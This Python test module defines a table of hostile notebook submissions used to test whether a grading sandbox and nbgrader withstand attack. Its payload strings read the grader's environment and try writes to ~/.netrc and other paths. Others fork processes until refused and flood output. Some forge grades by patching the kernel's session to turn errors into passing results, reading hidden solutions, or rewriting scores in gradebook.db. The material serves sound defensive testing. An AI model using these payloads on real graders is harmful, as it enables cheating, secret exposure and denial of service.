"""The cases of the attack table: each an attack of the hostile suite, and what of it is put before nbgrader.

The cells are the same on both sides, but for attacks that aim at what only one grader has: its gradebook, its
messages, its solution. Nothing here fills memory, disk or process table, or kills what is not its own.
"""

from __future__ import annotations

from dataclasses import dataclass, replace

from fixtures.hostile import Attack, all_attacks

ENVIRONMENT = "print(dict(os.environ))"
OUTSIDE = "attempt('outside', lambda: socket.create_connection(('<<address>>', <<outside_tcp>>), 2).close())"
WRITES = """
for path in ('<<labels>>', '<<key>>', '<<other>>', '<<home>>/.netrc'):
    attempt(path, lambda: write(path, b'0', os.O_WRONLY))
attempt('new', lambda: write('<<home>>/<<mark>>.py', b'raise SystemExit'))
"""
FORKS = """
started = 0
try:
    while started < 2000:
        if os.fork() == 0:
            marked(); time.sleep(600); os._exit(0)
        started += 1
    print('never refused')
except OSError as error: print('refused after', started, type(error).__name__)
"""
FLOOD_BYTES = 300_000_000
FLOOD = f"for _ in range({FLOOD_BYTES // 1_000_000}): print('x' * 1_000_000)"
SLOW_SECONDS = 33  # nbgrader's cells have 30 unless its configuration says otherwise

# What of an attack aims at nbgrader.
EVERYTHING = """
class Everything:
    def __eq__(self, other): return True
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter([self])
    def __radd__(self, other): return self
SimpleNN = Everything()
"""
RESULTS = """
session = get_ipython().kernel.session
plain = session.send
def send(stream, kind, content=None, *more, **named):
    if kind == 'error':
        kind, content = 'execute_result', {'data': {'text/plain': '10'}, 'metadata': {}, 'execution_count': 1}
    if kind == 'execute_reply': content = {**content, 'status': 'ok'}
    return plain(stream, kind, content, *more, **named)
session.send = send
"""
SOLUTION = """
import json
cells = json.load(open('../../../source/homework/net.ipynb'))['cells']
print('hidden:', ''.join(cells[-1]['source']))
exec(''.join(cells[1]['source']))
"""
GRADEBOOK = """
import os, subprocess, sys
source = '''
import contextlib, sqlite3, sys, time
end = time.monotonic() + 60
while time.monotonic() < end:
    with contextlib.suppress(sqlite3.Error), contextlib.closing(sqlite3.connect(sys.argv[1], timeout=0.2)) as book:
        book.execute("UPDATE grade SET auto_score = 10 WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n "
                     "JOIN submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = ?)", sys.argv[2:3])
        book.commit()
    time.sleep(0.2)
'''
student = os.path.basename(os.path.dirname(os.getcwd()))
book = os.path.abspath('../../../gradebook.db')
subprocess.Popen([sys.executable, '-c', source, book, student, '<<mark>>'], start_new_session=True)
"""


@dataclass(frozen=True)
class Case:
    """A line of the table: `same` replaces the cells of the attack on both sides, `theirs` those for nbgrader alone.

    `after` puts nbgrader's cells after the student's net; `needs_user` says that it is bounded only by limits that
    hold for a user of its own.
    """

    label: str
    name: str
    same: str = ""
    theirs: str = ""
    after: bool = False
    needs_user: bool = False

    @property
    def attack(self) -> Attack:
        """As this grader meets it."""
        attack = all_attacks()[self.name]
        return replace(attack, cells=(self.same,), ends="", never="") if self.same else attack

    @property
    def cells(self) -> tuple[str, ...]:
        """As nbgrader meets them."""
        return (self.theirs,) if self.theirs else self.attack.cells

    @property
    def honest(self) -> bool:
        """Whether it is no attack but honest work, which must have all points."""
        return self.attack.honest

    @property
    def for_points(self) -> bool:
        """Whether there is a net in the notebook, so that points say something."""
        return self.attack.group in ("forgery", "honest")


@dataclass(frozen=True)
class Verdict:
    """What one grader made of a case. `broken` says how it did not hold, nothing where it did."""

    happened: str
    broken: tuple[str, ...]
    seconds: float
    points: float = 0.0
    skipped: bool = False

    @property
    def held(self) -> bool:
        """Whether the attack got nothing and honest work got everything."""
        return not self.broken and not self.skipped


CASES = (
    Case("reads the labels", "reach-labels"),
    Case("reads another submission", "reach-other-submission"),
    Case("reads the instructor's home", "reach-home"),
    Case("reads the grader's environment", "reach-environment", same=ENVIRONMENT),
    Case("connects to TCP on loopback", "reach-tcp"),
    Case("connects to TCP outside", "reach-tcp-outside", same=OUTSIDE),
    Case("sends UDP", "reach-udp"),
    Case("connects to a unix socket", "reach-unix"),
    Case("changes files outside", "reach-write-outside", same=WRITES),
    Case("leaves daemons", "process-leftover-daemon"),
    Case("forks until refused", "process-fork-bomb", same=FORKS, needs_user=True),
    Case("kill -9 self", "process-kill-self"),
    Case("os._exit", "process-exit"),
    Case("loops for ever", "time-plain-loop"),
    Case("loops, swallows interrupts", "time-swallowed-interrupt"),
    Case(f"prints {FLOOD_BYTES // 1_000_000} MB", "protocol-print-flood", same=FLOOD),
    Case("__eq__ always true", "forgery-always-equal", theirs=EVERYTHING, after=True),
    Case("strips asserts", "forgery-asserts-stripped"),
    Case("input transformer", "forgery-input-transformer"),
    Case("patches run_code", "forgery-run-code"),
    Case("forges execute_result", "forgery-result-injection", theirs=RESULTS),
    Case("reads solution, hidden tests", "forgery-reference-copied", theirs=SOLUTION, after=True),
    Case("edits the gradebook", "forgery-gradebook", theirs=GRADEBOOK),
    Case("honest: prints warnings", "honest-warnings"),
    Case(f"honest: a cell of {SLOW_SECONDS} s", "honest-slow-cell", same=f"import time; time.sleep({SLOW_SECONDS})"),
    Case("honest: renamed notebook", "honest-renamed"),
    Case("honest: killed, then run again", "honest-rerun"),
)
